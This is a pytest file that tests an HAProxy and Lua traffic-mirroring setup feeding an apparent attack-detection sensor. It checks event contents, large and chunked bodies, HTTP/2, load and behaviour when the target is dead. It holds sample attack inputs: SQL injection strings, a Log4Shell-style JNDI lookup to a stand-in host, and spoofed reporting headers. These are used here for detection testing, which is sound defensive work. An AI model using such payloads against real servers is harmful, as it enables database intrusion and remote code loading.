"""HAProxy with the shipped Lua mirrors to the shipped target: what arrives there, and that a dead target delays nobody."""

import concurrent.futures
import http.server
import os
import shutil
import socket
import subprocess
import threading
import time

import pytest
from conftest import DEPLOY, FORM, SQLI, can_connect, free_ports, replaced, request, wait_for

HAPROXY = shutil.which("haproxy", path=f"{os.environ['PATH']}:/usr/sbin")
pytestmark = pytest.mark.skipif(not HAPROXY, reason="no haproxy: apt-get install haproxy")


class Application(http.server.BaseHTTPRequestHandler):
    """Answers with the length of the body it got."""

    protocol_version = "HTTP/1.1"

    def answer(self):
        if self.headers.get("Transfer-Encoding"):
            while self.rfile.readline().strip() != b"0":
                self.rfile.readline()
            self.rfile.readline()
        body = b"%d" % len(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = do_DELETE = do_PROPFIND = answer

    def log_message(self, *args):
        pass


class Server(http.server.ThreadingHTTPServer):
    def handle_error(self, request, client_address):
        """HAProxy resets connections that it keeps when it ends."""


def serve(port):
    """The application, on a thread of its own."""
    server = Server(("127.0.0.1", port), Application)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


class Haproxy:
    def __init__(self, folder, target):
        self.front, self.application = free_ports(2)
        self.log, self.conf = folder / "haproxy.log", folder / "haproxy.cfg"
        self.conf.write_text(
            replaced(
                (DEPLOY / "haproxy/haproxy.cfg").read_text(),
                ("/etc/haproxy", f"{DEPLOY}/haproxy"),
                ("127.0.0.1:8081", f"127.0.0.1:{target}"),
                ("127.0.0.1:8000", f"127.0.0.1:{self.front}"),
                ("127.0.0.1:8080", f"127.0.0.1:{self.application}"),
            )
        )

    def __enter__(self):
        self.server = serve(self.application)
        self.process = subprocess.Popen(
            [HAPROXY, "-f", self.conf, "-db"], stdout=self.log.open("w"), stderr=subprocess.STDOUT
        )
        wait_for(lambda: can_connect(self.front), "HAProxy listens")
        return self

    def __exit__(self, *_):
        alive = self.process.poll() is None
        self.process.terminate()
        self.process.wait(10)
        self.server.shutdown()
        self.server.server_close()
        assert alive, self.log.read_text()[-2000:]


@pytest.fixture
def haproxy(tmp_path, target):
    with Haproxy(tmp_path, target.port) as server:
        yield server


def test_the_configuration_is_accepted_without_a_warning(haproxy):
    done = subprocess.run([HAPROXY, "-c", "-V", "-f", haproxy.conf], capture_output=True, text=True, timeout=30)
    assert done.returncode == 0 and "WARNING" not in done.stdout + done.stderr, done.stdout + done.stderr


def test_the_original_request_is_what_is_reported(haproxy, target):
    spoofed = {"X-Sidewatch-Client": "203.0.113.9", "X-Sidewatch-Target": "/harmless", "X-Sidewatch-Method": "GET"}
    assert request(haproxy.front, "PROPFIND", SQLI, headers=spoofed) == (200, b"0")
    (event,) = target.events()
    assert (event["request"]["method"], event["request"]["target"]) == ("PROPFIND", SQLI)
    assert (event["request"]["host"], event["request"]["version"]) == ("shop.example", "HTTP/1.1")
    assert event["client"]["ip"] == "127.0.0.1" and event["client"]["port"] > 0
    assert len(event["id"]) == 36
    assert event["classes"] == ["sqli"]


def test_bodies_and_fields_are_judged(haproxy, target):
    small = b"page=1&user=admin'+or+1%3D1--+"
    large = b"user=admin'+or+1%3D1--+&note=" + b"word+" * 40_000  # the application gets all, the copy is cut
    assert request(haproxy.front, "POST", "/small", small, FORM) == (200, b"%d" % len(small))
    assert request(haproxy.front, "POST", "/large", large, FORM) == (200, b"%d" % len(large))
    assert request(haproxy.front, "GET", "/field", headers={"X-Api": "${jndi:ldap://x.example/a}"})[0] == 200
    events = {e["request"]["target"]: e for e in target.events(3)}
    assert set(events) == {"/small", "/large", "/field"}
    assert {f["point"] for f in events["/small"]["findings"]} == {"body.form.user"}
    assert events["/small"]["request"]["body_bytes"] == len(small)
    assert "body.form.user" in {f["point"] for f in events["/large"]["findings"]}
    assert 32_000 < events["/large"]["request"]["body_bytes"] < len(large)
    assert "header.x-api" in {f["point"] for f in events["/field"]["findings"]}


def test_a_chunked_body_is_no_smuggling(haproxy, target):
    """The copy has a Content-Length, the original had none: the target is told."""
    pieces = iter([b"page=1&user=", b"admin'+or+1%3D1--+"])
    request(haproxy.front, "POST", "/chunked", pieces, FORM)
    (event,) = target.events()
    assert (event["classes"], event["request"]["target"]) == (["sqli"], "/chunked")
    assert event["request"]["body_bytes"] == 30


@pytest.mark.skipif(not shutil.which("curl"), reason="no curl")
def test_http2_is_mirrored_with_its_path(haproxy, target):
    haproxy.process.terminate()
    haproxy.process.wait(10)
    bind = f"bind 127.0.0.1:{haproxy.front}"
    haproxy.conf.write_text(replaced(haproxy.conf.read_text(), (bind, bind + " proto h2")))
    haproxy.process = subprocess.Popen([HAPROXY, "-f", haproxy.conf, "-db"], stdout=subprocess.DEVNULL)
    wait_for(lambda: can_connect(haproxy.front), "HAProxy listens")
    url = f"http://127.0.0.1:{haproxy.front}{SQLI}"
    words = ["curl", "-sS", "--http2-prior-knowledge", "-H", "Host: shop.example", "-d", "a=b", url]
    subprocess.run(words, check=True, timeout=20, stdout=subprocess.DEVNULL)
    (event,) = target.events()
    assert (event["request"]["target"], event["request"]["host"]) == (SQLI, "shop.example")
    assert (event["request"]["method"], event["request"]["version"]) == ("POST", "HTTP/2")


def test_every_request_of_many_clients_arrives(haproxy, target):
    targets = [f"{SQLI}&n={i}" for i in range(400)]
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        assert set(pool.map(lambda t: request(haproxy.front, "GET", t)[0], targets)) == {200}
    assert sorted(e["request"]["target"] for e in target.events(len(targets))) == sorted(targets)


def test_a_target_that_restarts_gets_the_next_requests(haproxy, target):
    request(haproxy.front, "GET", SQLI)
    target.events(1)
    target.stop()
    target.start()

    def arrives():
        request(haproxy.front, "GET", SQLI)
        return len(target.events(1)) > 1

    wait_for(arrives, "an event after the restart", 15)


@pytest.mark.parametrize("kind", ["refuses", "never answers"])
def test_a_dead_target_delays_no_client(tmp_path, kind):
    """Clients go on while nothing takes the copies; the queue is bounded, and what is dropped is logged."""
    silent = socket.create_server(("127.0.0.1", 0))
    port = silent.getsockname()[1]
    if kind == "refuses":
        silent.close()
    with Haproxy(tmp_path, port) as haproxy:
        started = time.monotonic()
        for i in range(1200):
            assert request(haproxy.front, "POST", f"/{i}", b"a=b", FORM) == (200, b"3")
        # One that waited for the target would take two seconds for each request.
        assert time.monotonic() - started < 300
        wait_for(lambda: "not mirrored" in haproxy.log.read_text(), "the log says what was dropped")
    silent.close()


@pytest.mark.parametrize(
    ("name", "value", "want"),
    [
        ("SIDEWATCH_TARGET", "watch", "an address and a port are expected, such as 127.0.0.1:8081, not 'watch'"),
        ("SIDEWATCH_QUEUE", "many", "a whole number from 1 is expected, not 'many'"),
    ],
)
def test_wrong_settings_are_refused_at_start(tmp_path, name, value, want):
    conf = tmp_path / "haproxy.cfg"
    lines = [
        "global",
        "setenv SIDEWATCH_TARGET 127.0.0.1:1",
        f"setenv {name} {value}",
        f"lua-load {DEPLOY}/haproxy/sidewatch.lua",
    ]
    conf.write_text("\n".join(lines) + "\n")
    done = subprocess.run([HAPROXY, "-c", "-f", conf], capture_output=True, text=True, timeout=30)
    assert done.returncode != 0 and f"{name}: {want}" in done.stdout + done.stderr, done.stderr
